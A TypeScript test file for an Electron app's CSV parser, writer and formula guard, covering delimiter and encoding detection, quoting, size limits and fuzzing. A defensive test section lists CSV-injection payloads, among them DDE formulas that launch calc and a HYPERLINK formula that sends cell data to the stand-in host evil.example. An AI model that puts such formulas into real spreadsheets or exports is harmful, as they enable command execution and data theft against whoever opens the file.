/** Text with delimiters: what it is read as, and what it is refused for. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../../db/domain/app-error.ts';
import { type TableToWrite, tableLimits } from '../../../db/domain/tables/table.ts';
import { readCsv, readPasted } from '../../../electron/tables/csv-read.ts';
import { csvBytes } from '../../../electron/tables/csv-write.ts';
import { guarded, looksLikeFormula, unguarded } from '../../../electron/tables/formula-guard.ts';

const fault = (read: () => unknown): AppError['params'] & { code: string } => {
  try {
    read();
  } catch (error) {
    if (error instanceof AppError) return { ...error.params, code: error.code };
    throw error;
  }
  throw new Error('was read');
};
const rows = (text: string): unknown => readCsv(Buffer.from(text)).table.rows;
const table = (texts: readonly string[]): TableToWrite => ({
  name: 'T',
  columns: texts.map((_, at) => ({ header: `K${at}`, width: 10, choices: null })),
  rows: [texts],
});
const text = (given: TableToWrite): string => Buffer.from(csvBytes(given)).toString('utf8');

describe('reading', () => {
  it.each([
    ['a;b\r\n1;2\r\n', ';'],
    ['a,b\n1,2\n', ','],
    ['a\tb\n1\t2', '\t'],
    ['a;b\n"1, 2";"3, 4"\n', ';'],
    ['sep=,\r\na;b,c\r\n', ','],
  ])('finds the delimiter of %j', (given, delimiter) => {
    expect(readCsv(Buffer.from(given)).delimiter).toBe(delimiter);
  });

  it('takes quotes, line breaks and delimiters inside of cells, and empty cells', () => {
    expect(rows('a;b;c\r\n"1;2";"rad\r\nrad";"sa ""hej"""\r\n;;x')).toEqual([
      ['a', 'b', 'c'],
      ['1;2', 'rad\r\nrad', 'sa "hej"'],
      [null, null, 'x'],
    ]);
  });

  it.each([
    ['utf-8', Buffer.from('Å;ö\n1;2')],
    ['utf-8', Buffer.from('\ufeffÅ;ö\n1;2')],
    ['windows-1252', Buffer.from('Å;ö\n1;2', 'latin1')],
    ['utf-16', Buffer.from('\ufeffÅ;ö\n1;2', 'utf16le')],
    ['utf-16', Buffer.from('\ufeffÅ;ö\n1;2', 'utf16le').swap16()],
  ])('reads %s and says so', (encoding, bytes) => {
    const read = readCsv(bytes);
    expect(read.encoding).toBe(encoding);
    expect(read.table.rows).toEqual([
      ['Å', 'ö'],
      ['1', '2'],
    ]);
  });

  it('says on which line a quote never closes, or is followed by text', () => {
    expect(fault(() => rows('a;b\n"1\n2";"x\n'))).toEqual({ code: 'table-quotes', line: 3 });
    expect(fault(() => rows('a;b\n"1"2;3\n'))).toEqual({ code: 'table-quotes', line: 2 });
  });

  it('takes such quotes for letters in what is pasted', () => {
    expect(readPasted('Faktor\tB\n"Rörlig" grupp\t5"\n"hel\tcell"\tx').table.rows).toEqual([
      ['Faktor', 'B'],
      ['"Rörlig" grupp', '5"'],
      ['hel\tcell', 'x'],
    ]);
  });

  it('refuses what is empty, no text, too wide and too long', () => {
    expect(fault(() => rows(' \r\n;;\r\n'))).toEqual({ code: 'table-empty' });
    expect(fault(() => readCsv(Buffer.from([0x50, 0x4e, 0x47, 0, 0, 1])))).toEqual({ code: 'table-unknown-format' });
    expect(fault(() => rows(';'.repeat(1_000_000)))).toMatchObject({ code: 'table-too-large', what: 'columns' });
    expect(fault(() => rows('a;b\n'.repeat(tableLimits.rows + 1)))).toMatchObject({
      code: 'table-too-large',
      what: 'rows',
    });
  });

  it('never fails in another way than it says, whatever the bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
        try {
          readCsv(bytes);
        } catch (error) {
          expect(error).toBeInstanceOf(AppError);
        }
      }),
    );
  });
});

/** By OWASP, "CSV Injection", and what hides from a filter that looks at the first letter only. */
const attacks = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '=HYPERLINK("http://evil.example?x="&A1;"klicka")',
  '=DDE("cmd";"/C calc";"1")',
];

describe('texts that a spreadsheet would run', () => {
  it.each(attacks)('leave as text and come back as they were: %j', (attack) => {
    const written = text(table([attack, 'x']));
    const cell = written.slice(written.indexOf('\r\n') + 2);
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
    expect(readCsv(Buffer.from(written)).table.rows[1]).toEqual([attack, 'x']);
  });

  it('are marked and unmarked without loss, and nothing else is touched', () => {
    const awkward = fc.string({ unit: fc.constantFrom("'", '=', '-', 'a', ' ', '\t', '\n'), maxLength: 6 });
    fc.assert(
      fc.property(fc.oneof(awkward, fc.string()), (given) => {
        expect(unguarded(guarded(given))).toBe(given);
        expect(looksLikeFormula(guarded(given).replace(/^'/, ''))).toBe(looksLikeFormula(given));
        if (!looksLikeFormula(given)) expect(guarded(given)).toBe(given);
      }),
    );
  });
});

describe('writing', () => {
  it('is what a Swedish Excel opens: BOM, semicolons, CRLF, decimal comma', () => {
    const given: TableToWrite = {
      ...table(['a']),
      rows: [['å; "ö"'], [1.5], [-3], [true], [{ date: '2026-03-04' }], [null]],
    };
    expect(text(given)).toBe('\ufeffK0\r\n"å; ""ö"""\r\n"1,5"\r\n-3\r\ntrue\r\n2026-03-04\r\n\r\n');
  });
});
